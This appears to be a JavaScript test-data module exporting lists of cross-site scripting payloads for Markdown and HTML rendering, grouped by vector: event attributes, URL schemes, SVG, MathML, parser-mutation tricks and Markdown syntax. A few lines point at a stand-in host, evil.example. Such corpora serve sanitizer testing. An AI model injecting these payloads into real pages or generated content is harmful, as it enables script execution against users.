// Ways of bringing a program into a page, by kind; each is a piece of Markdown.

const ATTRIBUTES = [
  '<img src=x onerror=alert(1)>',
  '<div onclick=alert(1)>x</div>',
  '<p onmouseover="alert(1)">x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<b onpointerenter=alert(1) onfocus=alert(2) tabindex=0 autofocus>x</b>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p\nonclick\n=\nalert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<P ONCLICK=alert(1)>x</P>',
  '<span data-x="\'><img src=x onerror=alert(1)>">x</span>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<a ping="https://evil.example" href="https://a.example" target=_blank>x</a>',
  '<q cite="javascript:alert(1)">x</q>',
];

const SCHEMES = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/x 1x" src="gone.png">',
];

const SVG = [
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></use></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
];

const MATHML = [
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<math href="javascript:alert(1)"><mi>x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math><semantics><annotation-xml encoding="application/xhtml+xml"><body onload=alert(1)></annotation-xml></semantics></math>',
];

const MUTATION = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img onerror=alert(1) src>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><script>alert(1)</script>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img """><script>alert(1)</script>">',
  '<plaintext><script>alert(1)</script>',
  '<b><script\n>alert(1)</script ></b>',
];

const MARKDOWN = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](<java script:alert(1)>)',
  '![x](javascript:alert(1) "t")',
  '![x" onerror="alert(1)](gone.png "y\\" onload=\\"alert(1)")',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x] ![x]',
  '```js title="<img src=x onerror=alert(1)>"\n</code></pre><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '## <img src=x onerror=alert(1)> {#"><script>alert(1)</script>}',
  '| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
  '[^"><script>alert(1)</script>]: x\n\ny[^"><script>alert(1)</script>]',
  '[[javascript:alert(1)]] [[javascript:alert(1)|x]]',
  '[["><img src=x onerror=alert(1)>]] [[#"><script>alert(1)</script>|"><script>alert(1)</script>]]',
  ':::note "><script>alert(1)</script>\nx\n:::',
  ':::details <img src=x onerror=alert(1)>\nx\n:::',
  '> [!NOTE"><script>alert(1)</script>]\n> x',
  '*[X]: "><script>alert(1)</script>\n\nX <b>raw</b>',
  '- [ ] <input type=image src=x onerror=alert(1)>',
  'Term\n: <script>alert(1)</script>',
  '==<script>alert(1)</script>== ~<b onclick=alert(1)>~ ^<i onclick=alert(1)>^',
  '![x](gone.png "<script>alert(1)</script>")',
  '<div>\n\n[x](javascript:alert(1))\n\n</div>',
  '\0link0\0 <b>\0code0\0</b> &#0;task1&#0;',
];

export const PAYLOADS = { ATTRIBUTES, SCHEMES, SVG, MATHML, MUTATION, MARKDOWN };
